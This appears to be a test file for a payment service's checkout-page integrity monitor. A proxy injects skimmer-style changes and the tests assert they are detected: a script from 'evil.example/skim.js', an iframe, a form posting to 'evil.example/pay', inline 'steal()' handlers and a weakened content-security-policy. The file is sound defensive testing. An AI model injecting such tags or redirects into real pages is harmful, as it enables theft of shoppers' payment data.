@@ -1,0 +1,300 @@
+import assert from "node:assert/strict";
+import { execFile } from "node:child_process";
+import { createServer, type IncomingMessage, type Server } from "node:http";
+import type { AddressInfo } from "node:net";
+import { tmpdir } from "node:os";
+import path from "node:path";
+import process from "node:process";
+import { after, before, beforeEach, test } from "node:test";
+import { startTestApp, type TestApp, testSecretKey } from "../../../test/support/app.ts";
+import { script } from "../../checkout-page/assets.ts";
+import { rememberEdition } from "../queries.ts";
+import type { CheckResult } from "./check-page.ts";
+import { digestOf, ownEdition } from "./edition.ts";
+import { checkNow, checkWhenDue, lastCheck, type PageCheckDeps } from "./run-check.ts";
+
+/**
+ * Kassa behind a proxy that can be made to do what a skimmer's does: put a script into pages, change a header, swap a
+ * file. The proxy's address is the public one.
+ */
+let kassa: TestApp;
+let proxy: Server;
+let deps: PageCheckDeps;
+let tamper: Tamper = {};
+const asked: IncomingMessage[] = [];
+const alarms: { level: string; fields: object }[] = [];
+
+type Tamper = {
+  readonly page?: (html: string) => string;
+  readonly script?: (text: string) => string;
+  readonly headers?: Readonly<Record<string, string | null>>;
+  readonly status?: number;
+};
+
+before(async () => {
+  proxy = createServer((request, response) => {
+    asked.push(request);
+    void forward(request).then(({ status, headers, body }) => response.writeHead(status, headers).end(body));
+  });
+  await new Promise<void>((resolve) => proxy.listen(0, "127.0.0.1", resolve));
+  const { port } = proxy.address() as AddressInfo;
+  const publicUrl = `http://127.0.0.1:${port}`;
+  kassa = await startTestApp({ KASSA_PUBLIC_URL: publicUrl });
+  const note = (level: string) => (fields: object) => void alarms.push({ level, fields });
+  deps = {
+    database: kassa.db.database,
+    keyring: kassa.keyring,
+    publicUrl: new URL(publicUrl),
+    nowMs: () => Date.now(),
+    log: { info: note("info"), warn: note("warn"), error: note("error") },
+  };
+});
+after(async () => {
+  await kassa.close();
+  proxy.closeAllConnections();
+  await new Promise((resolve) => proxy.close(resolve));
+});
+beforeEach(() => {
+  tamper = {};
+  alarms.length = 0;
+});
+
+/** Where Kassa really listens; with a free port its own idea of the public address has moved there. */
+const own = (): string => `http://127.0.0.1:${new URL(kassa.url).port}`;
+
+async function forward(request: IncomingMessage) {
+  const answer = await fetch(own() + request.url, {
+    headers: { "accept-language": "en" },
+    redirect: "manual",
+  });
+  const headers: Record<string, string> = {};
+  for (const [name, value] of answer.headers)
+    if (!/^(content-encoding|content-length|connection|keep-alive|transfer-encoding)$/.test(name))
+      headers[name] = value;
+  for (const [name, value] of Object.entries(tamper.headers ?? {}))
+    if (value === null) delete headers[name];
+    else headers[name] = value;
+  const text = await answer.text();
+  const isPage = /html/.test(headers["content-type"] ?? "");
+  const change = isPage ? tamper.page : request.url === script.path ? tamper.script : undefined;
+  return { status: tamper.status ?? answer.status, headers, body: change ? change(text) : text };
+}
+
+const places = (result: CheckResult) =>
+  result.outcome === "differs"
+    ? result.differences.map(({ where, found }) => `${where}: ${found}`)
+    : result.outcome;
+
+test("a page that arrives as it was sent is no alarm", async () => {
+  const result = await checkWhenDue(deps, 300_000);
+  assert.deepEqual(result, { outcome: "same", address: deps.publicUrl.origin });
+  assert.deepEqual(alarms, []);
+});
+
+test("it is asked for as consumers do, at an address that looks like any session's, and leaves no session behind", async () => {
+  asked.length = 0;
+  await checkNow(deps);
+  const page = asked.find(({ url }) => url?.startsWith("/pay/cs_"));
+  assert.match(page?.url ?? "", /^\/pay\/cs_live_[0-9A-Za-z]{37}$/);
+  assert.match(page?.headers["user-agent"] ?? "", /Mozilla/);
+  assert.doesNotMatch(JSON.stringify(asked.map(({ headers }) => headers)), /kassa|authorization/i);
+  assert.deepEqual(await kassa.db.sql("SELECT id FROM checkout_sessions"), []);
+  const posted = await fetch(own() + page?.url, {
+    method: "POST",
+    body: new URLSearchParams({ method: "wallet" }),
+  });
+  assert.equal(posted.status, 404, "nothing can be paid there");
+});
+
+test("a script that somebody puts into the page is an alarm", async () => {
+  tamper = {
+    page: (html) => html.replace("</head>", '<script src="https://evil.example/skim.js"></script></head>'),
+  };
+  await kassa.db.sql("UPDATE page_check SET next_at = '-infinity'");
+  const result = await checkWhenDue(deps, 300_000);
+  assert.ok(result);
+  assert.deepEqual(places(result), ['document: <script src="https://evil.example/skim.js">']);
+  assert.equal(alarms.length, 1);
+  assert.equal(alarms[0]?.level, "error");
+  assert.match(JSON.stringify(alarms[0]?.fields), /evil\.example/);
+  assert.equal((await kassa.call("GET", "/readyz", { key: null })).status, 200, "payments go on");
+});
+
+const tampers: [string, Tamper, RegExp][] = [
+  [
+    "an inline script",
+    { page: (html) => html.replace("<main", "<script>steal()</script><main") },
+    /^document: <script>/,
+  ],
+  [
+    "a frame",
+    { page: (html) => html.replace("<main", '<iframe src="//evil.example"></iframe><main') },
+    /^document: <iframe/,
+  ],
+  [
+    "a form that leads elsewhere",
+    { page: (html) => html.replace(/action="[^"]*"/, 'action="https://evil.example/pay"') },
+    /^document: <form .*evil\.example/,
+  ],
+  [
+    "a handler in an attribute",
+    { page: (html) => html.replace("<main", '<main onclick="steal()"') },
+    /^document: <main onclick/,
+  ],
+  [
+    "a word of the text",
+    { page: (html) => html.replace("Page check", "Another shop") },
+    /^document: .*Another shop/,
+  ],
+  [
+    "another policy",
+    { headers: { "content-security-policy": "script-src *" } },
+    /^header content-security-policy: script-src \*$/,
+  ],
+  [
+    "a policy taken out",
+    { headers: { "content-security-policy": null } },
+    /^header content-security-policy: null$/,
+  ],
+  [
+    "a page that may be stored",
+    { headers: { "cache-control": "max-age=600" } },
+    /^header cache-control: max-age=600$/,
+  ],
+  [
+    "a style sheet by header",
+    { headers: { link: "<https://evil.example/x.css>; rel=stylesheet" } },
+    /^header link: <https:\/\/evil/,
+  ],
+  [
+    "another script under our script's name",
+    { script: (text) => `${text}//` },
+    /^\/pay\/assets\/checkout\.[0-9a-f]+\.js: sha384-/,
+  ],
+];
+for (const [what, change, expected] of tampers) {
+  test(`${what} is found`, async () => {
+    tamper = change;
+    const found = places(await checkNow(deps));
+    assert.ok(Array.isArray(found), String(found));
+    assert.match(found.join("\n"), new RegExp(expected.source, "ms"));
+  });
+}
+
+test("what servers on the way add and that does no harm is no alarm", async () => {
+  tamper = {
+    headers: { server: "nginx", "cf-ray": "8f2", "alt-svc": 'h3=":443"', vary: "accept-encoding, origin" },
+  };
+  assert.equal((await checkNow(deps)).outcome, "same");
+});
+
+test("a page that can't be had is not taken for a changed one, nor for a sound one", async () => {
+  tamper = { status: 503 };
+  await kassa.db.sql("UPDATE page_check SET next_at = '-infinity'");
+  const result = await checkWhenDue(deps, 300_000);
+  assert.deepEqual(result, {
+    outcome: "unreachable",
+    address: deps.publicUrl.origin,
+    why: "answered with status 503",
+  });
+  assert.deepEqual(
+    alarms.map(({ level }) => level),
+    ["warn"],
+  );
+  const nobody = { ...deps, publicUrl: new URL("http://127.0.0.1:9") };
+  assert.equal((await checkNow(nobody)).outcome, "unreachable");
+});
+
+test("of several processes one checks, and only when it is due", async () => {
+  await kassa.db.sql("UPDATE page_check SET next_at = '-infinity'");
+  asked.length = 0;
+  const results = await Promise.all([1, 2, 3, 4].map(() => checkWhenDue(deps, 300_000)));
+  assert.equal(results.filter((result) => result !== undefined).length, 1);
+  assert.equal(asked.filter(({ url }) => url?.startsWith("/pay/cs_")).length, 1);
+  assert.equal(await checkWhenDue(deps, 300_000), undefined);
+});
+
+test("a check whose process died is taken over, and what the dead one finds later isn't kept", async () => {
+  await kassa.db.sql(`UPDATE page_check SET lease_until = now() - interval '1 s', next_at = now() + interval '5 min',
+    lease_fence = 70`);
+  assert.equal((await checkWhenDue(deps, 300_000))?.outcome, "same");
+  const [row] = await kassa.db.sql<{ lease_fence: number; free: boolean }>(
+    "SELECT lease_fence, lease_until IS NULL AS free FROM page_check",
+  );
+  assert.deepEqual(row, { lease_fence: 71, free: true });
+});
+
+test("while two versions run, the page of either is right", async () => {
+  const changed = (html: string): string => html.replaceAll("Page check", "Page check of the next version");
+  const { text, ...mine } = ownEdition(kassa.keyring, deps.publicUrl);
+  const headers = { "referrer-policy": "same-origin" };
+  const next = {
+    ...mine,
+    fingerprint: "next",
+    headers: { ...mine.headers, ...headers },
+    document: digestOf(changed(text)),
+  };
+  tamper = { headers, page: changed };
+  assert.equal((await checkNow(deps)).outcome, "differs", "while nobody serves it");
+  await kassa.db.database.inWorker((trx) => rememberEdition(trx, next));
+  assert.equal(places(await checkNow(deps)), "same");
+  tamper = { page: changed };
+  assert.deepEqual(
+    places(await checkNow(deps)),
+    ["header referrer-policy: no-referrer"],
+    "all of it or none",
+  );
+  await kassa.db.sql("UPDATE page_editions SET seen_at = now() - interval '3 minutes'");
+  tamper = { headers, page: changed };
+  assert.equal((await checkNow(deps)).outcome, "differs", "once nobody serves it any more");
+});
+
+test("the command line shows what was found, and ends with 1 when it isn't as it was sent", async () => {
+  const sound = await page("check");
+  assert.equal(sound.code, 0, sound.stderr);
+  assert.match(sound.stdout, /^✓ The payment page at http:\/\/127\.0\.0\.1:\d+ arrives as it was sent\.\n$/);
+  tamper = { headers: { "x-frame-options": null } };
+  const changed = await page("check", "--json");
+  assert.equal(changed.code, 1, changed.stderr);
+  const told = JSON.parse(changed.stdout);
+  assert.equal(told.object, "page.check");
+  assert.deepEqual(told.differences, [{ where: "header x-frame-options", expected: "DENY", found: null }]);
+  tamper = {};
+  const last = await page("check", "--last");
+  assert.equal(last.code, 1);
+  assert.match(last.stdout, /header x-frame-options: missing DENY\n[\s\S]*Checked at 20/);
+  assert.equal((await lastCheck(kassa.db.database))?.result.outcome, "differs");
+});
+
+test("the command line lists the reports, visitors' own doings apart", async () => {
+  await kassa.db.sql(`INSERT INTO page_reports (day, page, source, directive, blocked, count, first_at, last_at) VALUES
+    (current_date, 'payment', 'page', 'script-src-elem', 'https://evil.example', 3, now(), now()),
+    (current_date, 'payment', 'browser', 'img-src', 'chrome-extension:', 12, now(), now()),
+    (current_date - 30, 'docs', 'page', 'img-src', 'https://old.example', 1, now(), now())`);
+  const { code, stdout, stderr } = await page("reports");
+  assert.equal(code, 0, stderr);
+  assert.match(stdout, /payment +script-src-elem +https:\/\/evil\.example +3 /);
+  assert.match(stdout, /By visitors' own extensions[^\n]*\n[^\n]*\n.*chrome-extension: +12 /);
+  assert.doesNotMatch(stdout, /old\.example/);
+  assert.equal(JSON.parse((await page("reports", "--days", "60", "--json")).stdout).data.length, 3);
+  assert.equal((await page("reports", "--days", "0")).code, 1);
+});
+
+type Output = { readonly code: number; readonly stdout: string; readonly stderr: string };
+
+/** `kassa page …` in a process of its own, beside the running server. */
+function page(...args: string[]): Promise<Output> {
+  const env = {
+    PATH: process.env.PATH,
+    NODE_COMPILE_CACHE: path.join(tmpdir(), "kassa-test-compile-cache"),
+    DATABASE_URL: kassa.db.settings.connectionString,
+    KASSA_SECRET_KEY: testSecretKey,
+    KASSA_PUBLIC_URL: deps.publicUrl.origin,
+  };
+  const cwd = path.resolve(import.meta.dirname, "../../..");
+  return new Promise((resolve) => {
+    execFile(process.execPath, ["src/main.ts", "page", ...args], { cwd, env }, (error, stdout, stderr) =>
+      resolve({ code: error === null ? 0 : Number(error.code), stdout, stderr }),
+    );
+  });
+}
